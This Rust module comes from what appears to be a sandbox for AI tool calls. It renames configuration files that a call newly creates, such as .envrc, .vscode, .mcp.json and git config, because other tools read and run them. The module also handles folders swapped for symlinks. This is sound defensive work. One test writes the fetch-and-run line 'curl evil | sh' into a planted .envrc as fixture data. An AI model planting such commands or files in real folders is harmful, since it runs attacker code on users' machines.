//! Files that did not exist when the session opened and that no call may leave behind: names a
//! tool outside the sandbox reads later as configuration or code to run (a repository's
//! `.git/commondir`, `.git/config`, `.git/config.worktree`, a writable folder's `.envrc`,
//! `.vscode`, `.mcp.json`, `.idea`, `.gitmodules`). They cannot be masked while missing (a mount needs its point to exist, so
//! masking would create them in the user's folder), so one that appears while a call runs is
//! set aside when the call ends: renamed beside itself to `NAME.pod-planted` (never over
//! anything), so nothing is lost and nothing reads it. When a folder on its way was swapped for
//! a symlink (the paths are resolved at open, so the link is the session's), the symlink is set
//! aside instead, and nothing where it points is touched.
//!
//! Owns the list and the renaming; it decides nothing and runs no process.

use std::path::{Path, PathBuf};

/// The names a writable folder must not gain, with who reads them.
pub const WATCHED: [(&str, &str); 5] = [
    (".envrc", "direnv runs it when a shell enters the folder"),
    (".vscode", "the editor reads its settings and tasks"),
    (".mcp.json", "MCP clients start the servers it names"),
    (".idea", "the IDE reads its run configurations"),
    (
        ".gitmodules",
        "git reads submodule URLs and update commands from it",
    ),
];

const WORKTREE_CONFIG: &str = "git reads the commands it names from it when the repository \
     sets extensions.worktreeConfig";

/// A repository's files read as configuration that a call must not make, with who reads them.
const REPOSITORY_FILES: [(&str, &str); 3] = [
    (
        "commondir",
        "git would read its configuration and hooks from where it points",
    ),
    ("config", "git reads the commands it names from it"),
    ("config.worktree", WORKTREE_CONFIG),
];

/// One watched path and who would read it.
#[derive(Debug, Clone)]
pub struct Sentinel {
    path: PathBuf,
    reader: &'static str,
}

impl Sentinel {
    /// The watched names of `folder` that are missing now, each repository's `commondir`,
    /// `config` and `config.worktree`, and each of its linked worktrees' `config.worktree`.
    pub fn missing_in(folders: &[PathBuf], repositories: &[PathBuf]) -> Vec<Sentinel> {
        let watched = folders.iter().flat_map(|folder| {
            WATCHED.iter().map(move |(name, reader)| Sentinel {
                path: folder.join(name),
                reader,
            })
        });
        let files = repositories.iter().flat_map(|git| {
            REPOSITORY_FILES.iter().map(move |(name, reader)| Sentinel {
                path: git.join(name),
                reader,
            })
        });
        let worktrees = repositories.iter().flat_map(|git| {
            std::fs::read_dir(git.join("worktrees"))
                .into_iter()
                .flatten()
                .flatten()
                .take(256)
                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
                .map(|e| Sentinel {
                    path: e.path().join("config.worktree"),
                    reader: WORKTREE_CONFIG,
                })
        });
        watched
            .chain(files)
            .chain(worktrees)
            .filter(|s| !exists(&s.path))
            .collect()
    }
}

/// What a call's start saw missing, to compare with its end: a file pod's own tools made
/// between calls is not the call's to undo.
#[derive(Debug, Default)]
pub struct Watch(Vec<usize>);

/// A file set aside.
#[derive(Debug)]
pub struct Planted {
    pub path: PathBuf,
    /// Where it is now; `None` when it could not be moved (logged, and said in the result).
    pub moved_to: Option<PathBuf>,
    /// The start of what it held, or what it is (a folder, a link).
    pub held: String,
    /// Who would have read it, and what they would do.
    pub reader: String,
    /// How it came to be set aside.
    pub change: Change,
}

/// Why a file was set aside, for the words of the call's result.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Change {
    /// It appeared while the call ran (a watched name).
    Appeared,
    /// It is what makes a repository made since the session opened run something
    /// ([`super::repos`]).
    Found,
    /// A repository's `config` naming what git would run: set aside, and a `config` with only
    /// its settings that run nothing written in its place ([`super::repos`]).
    Rewritten,
}

/// The sentinels missing now.
pub fn watch(sentinels: &[Sentinel]) -> Watch {
    Watch(
        sentinels
            .iter()
            .enumerate()
            .filter(|(_, s)| !exists(&s.path))
            .map(|(i, _)| i)
            .collect(),
    )
}

/// Sets aside each sentinel `watch` saw missing that exists now. Each is reached through its
/// folder opened with no symlink on the way (`RESOLVE_NO_SYMLINKS`: the folders are resolved at
/// open, so a call that swapped one for a link gets nothing renamed where it points: the link
/// itself is set aside instead), and is itself never followed.
pub fn set_aside(sentinels: &[Sentinel], watch: &Watch) -> Vec<Planted> {
    watch
        .0
        .iter()
        .filter_map(|&i| sentinels.get(i))
        .filter_map(|s| set_aside_one(&s.path, s.reader.to_string()))
        .collect()
}

/// Sets aside `path`, when it exists, as [`set_aside`] does one sentinel; `reader` says who
/// would read it. `None` when there is nothing there.
pub fn set_aside_one(path: &Path, reader: String) -> Option<Planted> {
    let (dir, name) = (path.parent()?, path.file_name()?);
    let folder = rustix::fs::openat2(
        rustix::fs::CWD,
        dir,
        rustix::fs::OFlags::PATH | rustix::fs::OFlags::DIRECTORY | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
        rustix::fs::ResolveFlags::NO_SYMLINKS | rustix::fs::ResolveFlags::NO_MAGICLINKS,
    );
    let folder = match folder {
        Ok(f) => f,
        // The folder itself is gone: nothing in it to set aside.
        Err(rustix::io::Errno::NOENT) => return None,
        // A folder on the way swapped for a link: what is reached through it is the link's
        // (the paths are resolved, so every link on them was made since), and git and the
        // other readers follow it; the link itself is set aside, nothing where it points.
        Err(rustix::io::Errno::LOOP) if exists(path) => {
            let through = first_link(dir).and_then(|link| set_aside_one(&link, reader.clone()));
            return Some(match through {
                Some(mut planted) => {
                    planted.held = format!(
                        "{}, through which {} is reached",
                        planted.held,
                        path.display()
                    );
                    planted
                }
                None => unmoved_planted(
                    path.to_path_buf(),
                    "its folder is reached through a link that cannot be set aside".to_string(),
                    reader,
                ),
            });
        }
        // Unreadable: said when the name is there.
        Err(e) => {
            return exists(path).then(|| {
                unmoved_planted(
                    path.to_path_buf(),
                    format!("its folder cannot be opened: {e}"),
                    reader,
                )
            });
        }
    };
    let stat = rustix::fs::statat(&folder, name, rustix::fs::AtFlags::SYMLINK_NOFOLLOW).ok()?;
    let kind = rustix::fs::FileType::from_raw_mode(stat.st_mode);
    let held = match kind {
        rustix::fs::FileType::Symlink => rustix::fs::readlinkat(&folder, name, Vec::new())
            .map(|t| format!("a link to {}", t.to_string_lossy()))
            .unwrap_or_else(|_| "a link".to_string()),
        rustix::fs::FileType::Directory => "a folder".to_string(),
        rustix::fs::FileType::RegularFile => start_of(&folder, name),
        _ => "a special file".to_string(),
    };
    Some(match move_aside(&folder, name) {
        Some(new) => Planted {
            path: path.to_path_buf(),
            moved_to: Some(dir.join(new)),
            held,
            reader,
            change: Change::Appeared,
        },
        None => unmoved_planted(path.to_path_buf(), held, reader),
    })
}

/// The first component of `dir` that is a symlink, from the root down.
fn first_link(dir: &Path) -> Option<PathBuf> {
    let mut at = PathBuf::new();
    for c in dir.components() {
        at.push(c);
        match at.symlink_metadata() {
            Ok(m) if m.file_type().is_symlink() => return Some(at),
            Ok(_) => {}
            Err(_) => return None,
        }
    }
    None
}

/// What could not be set aside: logged, and said in the result.
pub fn unmoved_planted(path: PathBuf, held: String, reader: String) -> Planted {
    tracing::error!(
        "sandbox: cannot set aside {}, which a call made ({reader}); remove it yourself",
        path.display(),
    );
    Planted {
        path,
        moved_to: None,
        held,
        reader,
        change: Change::Appeared,
    }
}

/// The first 200 bytes of a file, opened without following a link or blocking.
fn start_of(folder: &std::os::fd::OwnedFd, name: &std::ffi::OsStr) -> String {
    let bytes = read_start(folder, name, 200).unwrap_or_default();
    String::from_utf8_lossy(&bytes).trim().to_string()
}

/// At most `cap` bytes from the start of `name` in `folder`, opened without following a link
/// or blocking (a FIFO planted there gives nothing rather than hang the call's end).
pub(super) fn read_start(
    folder: &std::os::fd::OwnedFd,
    name: impl rustix::path::Arg,
    cap: u64,
) -> Option<Vec<u8>> {
    use std::io::Read;
    let fd = rustix::fs::openat(
        folder,
        name,
        rustix::fs::OFlags::RDONLY
            | rustix::fs::OFlags::NOFOLLOW
            | rustix::fs::OFlags::NONBLOCK
            | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .ok()?;
    let mut bytes = Vec::new();
    std::fs::File::from(fd)
        .take(cap)
        .read_to_end(&mut bytes)
        .ok()?;
    Some(bytes)
}

/// Renames `name` in `folder` beside itself, never over an existing name; the new name.
pub fn move_aside(folder: &std::os::fd::OwnedFd, name: &std::ffi::OsStr) -> Option<String> {
    let name = name.to_string_lossy();
    for n in 0..100u32 {
        let new = if n == 0 {
            format!("{name}.pod-planted")
        } else {
            format!("{name}.pod-planted-{n}")
        };
        match rustix::fs::renameat_with(
            folder,
            name.as_ref(),
            folder,
            new.as_str(),
            rustix::fs::RenameFlags::NOREPLACE,
        ) {
            Ok(()) => return Some(new),
            Err(rustix::io::Errno::EXIST) => continue,
            Err(_) => return None,
        }
    }
    None
}

fn exists(p: &Path) -> bool {
    p.symlink_metadata().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_made_during_a_call_is_set_aside_and_one_made_before_is_not() {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().to_path_buf();
        std::fs::write(root.join(".idea"), "mine").expect("write");
        let sentinels = Sentinel::missing_in(std::slice::from_ref(&root), &[]);
        // `.idea` existed at open: not watched.
        assert!(sentinels.iter().all(|s| !s.path.ends_with(".idea")));
        // Made between calls (pod's own tool): the next call's watch does not see it missing.
        std::fs::write(root.join(".mcp.json"), "{}").expect("write");
        let w = watch(&sentinels);
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").expect("write");
        std::fs::create_dir(root.join(".vscode")).expect("mkdir");
        // A name already taken beside it is never overwritten.
        std::fs::write(root.join(".envrc.pod-planted"), "earlier").expect("write");
        let planted = set_aside(&sentinels, &w);
        let names: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        assert_eq!(names, vec![root.join(".envrc"), root.join(".vscode")]);
        assert!(!root.join(".envrc").exists() && !root.join(".vscode").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc.pod-planted-1")).expect("moved"),
            "curl evil | sh\n"
        );
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc.pod-planted")).expect("kept"),
            "earlier"
        );
        assert!(root.join(".vscode.pod-planted").is_dir());
        assert_eq!(planted[0].held, "curl evil | sh");
        assert_eq!(
            std::fs::read_to_string(root.join(".mcp.json")).expect("kept"),
            "{}"
        );
    }

    #[test]
    fn a_folder_swapped_for_a_link_is_set_aside_as_a_link() {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().canonicalize().expect("canonical");
        let build = root.join("build");
        let elsewhere = root.join("elsewhere");
        std::fs::create_dir(&build).expect("mkdir");
        std::fs::create_dir(&elsewhere).expect("mkdir");
        let sentinels = Sentinel::missing_in(std::slice::from_ref(&build), &[]);
        let w = watch(&sentinels);
        // The call replaces its folder with a link to one holding the user's `.vscode`.
        std::fs::create_dir(elsewhere.join(".vscode")).expect("mkdir");
        std::fs::remove_dir(&build).expect("rmdir");
        std::os::unix::fs::symlink(&elsewhere, &build).expect("link");
        let planted = set_aside(&sentinels, &w);
        assert!(elsewhere.join(".vscode").is_dir(), "{planted:?}");
        assert!(!elsewhere.join(".vscode.pod-planted").exists());
        // The link is set aside instead: nothing reads `.vscode` through `build` any more.
        assert_eq!(planted.len(), 1, "{planted:?}");
        assert_eq!(planted[0].path, build, "{planted:?}");
        assert_eq!(planted[0].moved_to, Some(root.join("build.pod-planted")));
        assert!(!build.exists());
        assert!(std::fs::read_link(root.join("build.pod-planted")).is_ok());
    }
}
